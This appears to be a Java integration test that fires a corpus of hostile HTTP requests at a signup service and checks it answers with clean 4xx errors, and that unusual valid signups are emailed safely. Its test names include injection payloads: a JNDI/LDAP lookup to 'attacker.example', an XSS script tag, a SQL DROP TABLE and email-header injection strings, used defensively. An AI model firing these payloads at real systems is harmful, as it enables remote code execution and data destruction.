package dev.signups.server;

import static java.nio.charset.StandardCharsets.US_ASCII;
import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import dev.signups.activities.links.ConfirmationTokens;
import dev.signups.activities.testing.FaultySmtpServer.ReceivedMessage;
import dev.signups.server.HostileRequests.Endpoint;
import dev.signups.server.HostileRequests.Probe;
import dev.signups.server.testing.AppProcess;
import dev.signups.server.testing.Inbox;
import dev.signups.server.testing.RawHttp;
import dev.signups.server.testing.RealServers;
import dev.signups.server.testing.SignupApi;
import dev.signups.server.testing.TemporalDevServer;
import io.temporal.client.WorkflowClient;
import io.temporal.client.WorkflowExecutionMetadata;
import jakarta.mail.Address;
import jakarta.mail.BodyPart;
import jakarta.mail.Message;
import jakarta.mail.Multipart;
import jakarta.mail.internet.InternetAddress;
import jakarta.mail.internet.MimeMessage;
import java.io.IOException;
import java.net.http.HttpResponse;
import java.time.Duration;
import java.time.Instant;
import java.util.ArrayList;
import java.util.Collections;
import java.util.EnumMap;
import java.util.HashSet;
import java.util.LinkedHashMap;
import java.util.LinkedHashSet;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.Set;
import java.util.TreeMap;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import java.util.stream.Collectors;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.RegisterExtension;
import org.slf4j.Logger;
import org.slf4j.LoggerFactory;

/**
 * The public port of the application, from its shaded jar, under a generated corpus of hostile
 * requests ({@link HostileRequests}), each sent byte for byte on its own connection: every one must
 * get a 4xx with a message a person can read, never a 5xx or the server's internals, and none may
 * start a signup, send an email, or touch the signup whose genuine link the corpus mutates. Apart
 * from them, unusual but valid signups must be taken, and their emails go to exactly the address
 * validated, with the name escaped in the HTML.
 */
class HostileInputIT {

  private static final Logger log = LoggerFactory.getLogger(HostileInputIT.class);
  private static final Duration PATIENCE = Duration.ofSeconds(60);
  private static final Duration TIMEOUT = Duration.ofSeconds(30);
  private static final ObjectMapper json = new ObjectMapper();

  /** What an answer must never show: a stack trace, an exception, a class or package name. */
  private static final Pattern INTERNALS =
      Pattern.compile(
          "Exception|Caused by|\\tat |\\.java:\\d|(?<![\\w.])(java|javax|jakarta|sun|org\\.eclipse"
              + "|org\\.glassfish|com\\.fasterxml|io\\.dropwizard|io\\.temporal|io\\.grpc"
              + "|dev\\.signups)\\.[a-z]");

  /** What only the operators' API tells. */
  private static final Pattern OPERATOR_DATA =
      Pattern.compile(
          "AWAITING_CONFIRMATION|\"status\"|\"healthy\"|\"gauges\"|deadlocks|signup-id");

  @RegisterExtension static final RealServers servers = new RealServers();

  /** The ids of the signups this class started itself, valid ones. */
  private static final Set<String> startedHere = Collections.synchronizedSet(new HashSet<>());

  private static AppProcess app;
  private static SignupApi api;
  private static Inbox inbox;
  private static WorkflowClient temporal;
  private static String linkHolder;
  private static String realToken;

  @BeforeAll
  static void startTheApplicationAndGetAGenuineLink() throws Exception {
    app = servers.startApp(Map.of());
    api = app.api(PATIENCE);
    inbox = new Inbox(servers.smtp(), PATIENCE);
    temporal = WorkflowClient.newInstance(servers.temporal().stubs());
    String address = "link-holder@tokens.example";
    linkHolder = started(api.signUpAccepted(address, "Link Holder"));
    realToken = Inbox.token(Inbox.link(inbox.await(address, 1).get(0)));
    api.awaitStatus(linkHolder, SignupApi.DELIVERED);
    api.awaitListed(SignupApi.DELIVERED, linkHolder);
  }

  @AfterAll
  static void stopTheApplication() throws Exception {
    if (temporal != null) {
      temporal.getWorkflowServiceStubs().shutdownNow();
    }
    if (app != null) {
      app.close();
    }
  }

  @Test
  void shouldAnswerEveryHostileRequestWithAClear4xxAndStartOrSendNothing() throws Exception {
    List<Probe> probes =
        HostileRequests.all(
            realToken, linkHolder, new ConfirmationTokens(RealServers.TOKEN_SECRET));
    Set<String> executionsBefore = executions();
    int emailsBefore = servers.smtp().received().size();
    byte[] linkHolderBefore = servers.temporal().settledHistory(linkHolder, PATIENCE);

    Map<Endpoint, Map<Integer, Integer>> tally = new EnumMap<>(Endpoint.class);
    List<String> failures = new ArrayList<>();
    Instant started = Instant.now();
    for (Probe probe : probes) {
      RawHttp.Response response;
      try {
        response = RawHttp.exchange(app.port(), probe.request(), TIMEOUT);
      } catch (IOException e) {
        failures.add(describe(probe) + ": no answer (" + e + ")");
        continue;
      }
      tally
          .computeIfAbsent(probe.endpoint(), endpoint -> new TreeMap<>())
          .merge(response.status(), 1, Integer::sum);
      for (String problem : problems(probe, response)) {
        failures.add(describe(probe) + ": " + problem);
      }
    }
    Duration took = Duration.between(started, Instant.now());
    logTally(tally, probes.size(), took);

    String sentinel = "sentinel@sentinel.example";
    String sentinelId = started(api.signUpAccepted(sentinel, "Sentinel"));
    inbox.await(sentinel, 1);
    Set<String> executionsAfter = executionsOnceListed(sentinelId);

    assertThat(failures).as("requests answered wrongly").isEmpty();
    assertThat(probes).hasSizeGreaterThanOrEqualTo(300);
    assertThat(tally.keySet()).containsExactlyInAnyOrder(Endpoint.values());
    Set<String> startedByTheCorpus = new LinkedHashSet<>(executionsAfter);
    startedByTheCorpus.removeAll(executionsBefore);
    startedByTheCorpus.removeIf(execution -> startedHere.contains(workflowId(execution)));
    assertThat(startedByTheCorpus).as("signups the corpus started").isEmpty();
    assertThat(executionsAfter).extracting(HostileInputIT::workflowId).contains(sentinelId);
    Set<String> named =
        probes.stream().flatMap(probe -> probe.addresses().stream()).collect(Collectors.toSet());
    assertThat(named).isNotEmpty();
    for (String address : named) {
      assertThat(TemporalDevServer.exists(temporal, api.idOf(address)))
          .as("a signup of " + address)
          .isFalse();
    }
    List<ReceivedMessage> sent =
        servers.smtp().received().subList(emailsBefore, servers.smtp().received().size());
    assertThat(sent).extracting(ReceivedMessage::recipients).containsOnly(List.of(sentinel));
    assertThat(servers.smtp().recipientAttempts("evil@" + HostileRequests.ATTACKER)).isEmpty();
    assertThat(servers.temporal().historyBytes(linkHolder))
        .as("the history of the signup whose link was mutated")
        .isEqualTo(linkHolderBefore);
    assertThat(api.view(linkHolder).get("status").asText()).isEqualTo(SignupApi.DELIVERED);
  }

  @Test
  void shouldAcceptUnusualButValidSignupsAndMailExactlyTheAddressValidated() throws Exception {
    Map<String, String> signups = unusualButValid();
    for (Map.Entry<String, String> signup : signups.entrySet()) {
      HttpResponse<String> response = api.signUp(signup.getKey(), signup.getValue());

      assertThat(response.statusCode()).as(signup.getKey()).isEqualTo(202);
      assertThat(response.body()).isEqualTo(SignupApi.ACCEPTED);
      started(api.idOf(signup.getKey()));
    }
    String gzipped = "gzipped@accepted.example";
    RawHttp.Response compressed =
        RawHttp.exchange(
            app.port(),
            RawHttp.request(
                "POST",
                "/signups",
                List.of("Content-Type: application/json", "Content-Encoding: gzip"),
                HostileRequests.gzip(
                    ("{\"email\":\"" + gzipped + "\",\"name\":\"Gzip\"}").getBytes(UTF_8))),
            TIMEOUT);
    assertThat(compressed.status()).isEqualTo(202);
    assertThat(compressed.text()).isEqualTo(SignupApi.ACCEPTED);
    started(api.idOf(gzipped));
    signups.put(gzipped, "Gzip");

    for (Map.Entry<String, String> signup : signups.entrySet()) {
      String address = signup.getKey();
      String name = signup.getValue();
      ReceivedMessage email = awaitTheOnlyEmailTo(address);

      assertThat(email.recipients()).as("RCPT TO").containsExactly(address);
      assertThat(email.recipients().get(0).getBytes(UTF_8))
          .as("RCPT TO, byte for byte")
          .isEqualTo(address.getBytes(US_ASCII));
      MimeMessage message = email.parse();
      Address[] recipients = message.getAllRecipients();
      assertThat(recipients).as("recipients in the headers of " + address).hasSize(1);
      assertThat(((InternetAddress) recipients[0]).getAddress()).isEqualTo(address);
      assertThat(message.getRecipients(Message.RecipientType.CC)).isNull();
      assertThat(message.getRecipients(Message.RecipientType.BCC)).isNull();
      assertThat(part(message, "text/plain")).contains("Hi " + name + ",");
      String html = part(message, "text/html");
      String greeting = between(html, "<p>Hi ", ",</p>");
      assertThat(greeting).as("the name in the HTML").doesNotContain("<", ">", "\"");
      assertThat(unescapeHtml(greeting)).isEqualTo(name);
      assertThat(html.toLowerCase(Locale.ROOT)).doesNotContain("<script");
    }
  }

  /** Addresses and names that look odd and are valid, by address. */
  private static Map<String, String> unusualButValid() {
    List<String> addresses =
        new ArrayList<>(
            List.of(
                "!#$%&'*+/=?^_`{|}~-@accepted.example",
                "o'brien+tag@accepted.example",
                "UPPER.Case@Accepted.EXAMPLE",
                "user@xn--bcher-kva.example",
                "user@xn--80ak6aa92e.xn--p1ai",
                "a.b.c.d@sub-domain.accepted.example",
                "percent%41@accepted.example",
                "slash/and=equals@accepted.example",
                "x@a-b--c.accepted.example",
                "`backtick`@accepted.example",
                "{curly}|pipe|~tilde@accepted.example",
                "1234567890@123.accepted.example",
                "q?^caret@accepted.example",
                "l".repeat(64) + "@accepted.example",
                "label@" + "d".repeat(63) + ".accepted.example",
                "a".repeat(64)
                    + "@"
                    + "b".repeat(63)
                    + "."
                    + "c".repeat(63)
                    + "."
                    + "d".repeat(57)
                    + ".com"));
    List<String> names =
        List.of(
            "<script>alert('x')</script>",
            "{{email}}",
            "{{{link}}}",
            "{{#name}}loop{{/name}}",
            "${jndi:ldap://attacker.example/a}",
            "%s%n%x",
            "'; DROP TABLE signups; --",
            "Ada \"Countess\" Lovelace",
            "Eve <eve@attacker.example>, bob@attacker.example",
            "=?UTF-8?B?RXZl?=",
            "Zoë Ĳsselmeer",
            "李小龍",
            "🦄".repeat(100),
            "\u010Aarl \u010Dapek \u0140", // low bytes LF, CR and '@'
            "مرحبا",
            "e\u0301mile",
            "&amp; &lt;b&gt; &#60;",
            "back\\slash",
            "Аda (Cyrillic А)",
            "Name,With;Separators:<>");
    Map<String, String> signups = new LinkedHashMap<>();
    for (int i = 0; i < Math.max(addresses.size(), names.size()); i++) {
      String address =
          i < addresses.size() ? addresses.get(i) : "unusual-" + i + "@accepted.example";
      signups.put(address, names.get(i % names.size()));
    }
    return signups;
  }

  /** What is wrong with {@code response} as an answer to {@code probe}. */
  private static List<String> problems(Probe probe, RawHttp.Response response) {
    List<String> problems = new ArrayList<>();
    int status = response.status();
    String body = response.text();
    if (status < 400 || status > 499) {
      problems.add("answered " + status + " " + abbreviate(body));
    } else if (!probe.statuses().isEmpty() && !probe.statuses().contains(status)) {
      problems.add("answered " + status + ", not " + probe.statuses() + ": " + abbreviate(body));
    }
    Matcher internals = INTERNALS.matcher(body);
    if (internals.find()) {
      problems.add("shows '" + internals.group() + "': " + abbreviate(body));
    }
    if (body.toLowerCase(Locale.ROOT).contains("<script")) {
      problems.add("reflects markup: " + abbreviate(body));
    }
    if (probe.endpoint() == Endpoint.OPERATORS && OPERATOR_DATA.matcher(body).find()) {
      problems.add("tells operators' data: " + abbreviate(body));
    }
    if (probe.bodyless()) {
      if (!body.isEmpty()) {
        problems.add("has a body: " + abbreviate(body));
      }
      return problems;
    }
    String type = response.header("Content-Type").orElse("").toLowerCase(Locale.ROOT);
    if (type.startsWith("application/json")) {
      problems.addAll(jsonProblems(probe, status, body));
    } else if (type.startsWith("text/html")) {
      if (!body.contains("<title>") || !(body.contains("<h1>") || body.contains("<h2>"))) {
        problems.add("an HTML page without a title and heading: " + abbreviate(body));
      }
    } else {
      problems.add("answered '" + type + "': " + abbreviate(body));
    }
    return problems;
  }

  /**
   * What is wrong with a JSON error: {@code {"code":..., "message":...}} with the status as its
   * code, or {@code {"errors":[...]}} naming the field of the probe.
   */
  private static List<String> jsonProblems(Probe probe, int status, String body) {
    JsonNode error;
    try {
      error = json.readTree(body);
    } catch (IOException e) {
      return List.of("not JSON: " + abbreviate(body));
    }
    if (error.has("errors")) {
      List<String> errors = new ArrayList<>();
      error.get("errors").forEach(e -> errors.add(e.asText()));
      if (errors.isEmpty() || errors.stream().anyMatch(String::isBlank)) {
        return List.of("empty errors: " + body);
      }
      if (probe.field() != null
          && errors.stream().noneMatch(e -> e.startsWith(probe.field() + " "))) {
        return List.of("errors do not name " + probe.field() + ": " + body);
      }
      return List.of();
    }
    if (error.path("code").asInt() != status || error.path("message").asText().isBlank()) {
      return List.of("neither errors nor code " + status + " and a message: " + body);
    }
    if (probe.field() != null) {
      return List.of("a message that names no field: " + body);
    }
    return List.of();
  }

  private static void logTally(
      Map<Endpoint, Map<Integer, Integer>> tally, int requests, Duration took) {
    StringBuilder table = new StringBuilder();
    table.append(
        String.format(
            "%d hostile requests in %.1f s, by endpoint and status:%n",
            requests, took.toMillis() / 1000.0));
    Map<Integer, Integer> overall = new TreeMap<>();
    tally.forEach(
        (endpoint, statuses) -> {
          int total = statuses.values().stream().mapToInt(Integer::intValue).sum();
          table.append(String.format("  %-45s %4d  ", endpoint.label, total));
          statuses.forEach(
              (status, count) -> {
                table.append(String.format(" %d: %d", status, count));
                overall.merge(status, count, Integer::sum);
              });
          table.append(System.lineSeparator());
        });
    table.append(String.format("  %-45s %4d  ", "all", requests));
    overall.forEach((status, count) -> table.append(String.format(" %d: %d", status, count)));
    log.info("{}", table);
  }

  /**
   * The executions of signup workflows Temporal lists, {@code workflowId/runId}, once {@code
   * expected} is among them and the listing has stopped growing.
   */
  private static Set<String> executionsOnceListed(String expected) throws InterruptedException {
    Instant deadline = Instant.now().plus(PATIENCE);
    Set<String> previous = null;
    while (Instant.now().isBefore(deadline)) {
      Set<String> current = executions();
      boolean listed = current.stream().anyMatch(e -> workflowId(e).equals(expected));
      if (listed && current.equals(previous)) {
        return current;
      }
      previous = current;
      Thread.sleep(1000);
    }
    throw new AssertionError(expected + " never listed");
  }

  private static Set<String> executions() {
    return temporal
        .listExecutions("WorkflowType = 'SignupWorkflow'")
        .map(HostileInputIT::execution)
        .collect(Collectors.toCollection(LinkedHashSet::new));
  }

  private static String execution(WorkflowExecutionMetadata metadata) {
    return metadata.getExecution().getWorkflowId() + "/" + metadata.getExecution().getRunId();
  }

  private static String workflowId(String execution) {
    return execution.substring(0, execution.indexOf('/'));
  }

  private static String started(String id) {
    startedHere.add(id);
    return id;
  }

  /** Waits for an email to {@code address}, any case, and checks that it is the only one. */
  private static ReceivedMessage awaitTheOnlyEmailTo(String address) throws InterruptedException {
    Instant deadline = Instant.now().plus(PATIENCE);
    while (Instant.now().isBefore(deadline)) {
      List<ReceivedMessage> to =
          servers.smtp().received().stream()
              .filter(m -> m.recipients().stream().anyMatch(r -> r.equalsIgnoreCase(address)))
              .toList();
      if (!to.isEmpty()) {
        assertThat(to).as("emails to " + address).hasSize(1);
        return to.get(0);
      }
      Thread.sleep(100);
    }
    throw new AssertionError("No email to " + address + "; received: " + servers.smtp().received());
  }

  private static String part(MimeMessage message, String type) throws Exception {
    Multipart alternatives = (Multipart) message.getContent();
    for (int i = 0; i < alternatives.getCount(); i++) {
      BodyPart part = alternatives.getBodyPart(i);
      if (part.isMimeType(type)) {
        return (String) part.getContent();
      }
    }
    throw new AssertionError("No " + type + " part");
  }

  private static String between(String text, String start, String end) {
    int from = text.indexOf(start);
    assertThat(from).as(start + " in " + text).isNotNegative();
    int to = text.indexOf(end, from + start.length());
    assertThat(to).as(end + " in " + text).isNotNegative();
    return text.substring(from + start.length(), to);
  }

  private static final Pattern ENTITY = Pattern.compile("&(#x[0-9a-fA-F]+|#[0-9]+|[a-z]+);");

  /** Decodes the character references of HTML text. */
  private static String unescapeHtml(String html) {
    Matcher entity = ENTITY.matcher(html);
    StringBuilder text = new StringBuilder();
    while (entity.find()) {
      String name = entity.group(1);
      String decoded =
          switch (name) {
            case "amp" -> "&";
            case "lt" -> "<";
            case "gt" -> ">";
            case "quot" -> "\"";
            case "apos" -> "'";
            default ->
                name.startsWith("#x")
                    ? Character.toString(Integer.parseInt(name.substring(2), 16))
                    : name.startsWith("#")
                        ? Character.toString(Integer.parseInt(name.substring(1)))
                        : entity.group();
          };
      entity.appendReplacement(text, Matcher.quoteReplacement(decoded));
    }
    entity.appendTail(text);
    return text.toString();
  }

  private static String describe(Probe probe) {
    return probe.endpoint().label + " [" + probe.what() + "]";
  }

  private static String abbreviate(String s) {
    String line = s.replace("\r", "\\r").replace("\n", "\\n");
    return line.length() <= 300 ? line : line.substring(0, 297) + "...";
  }
}
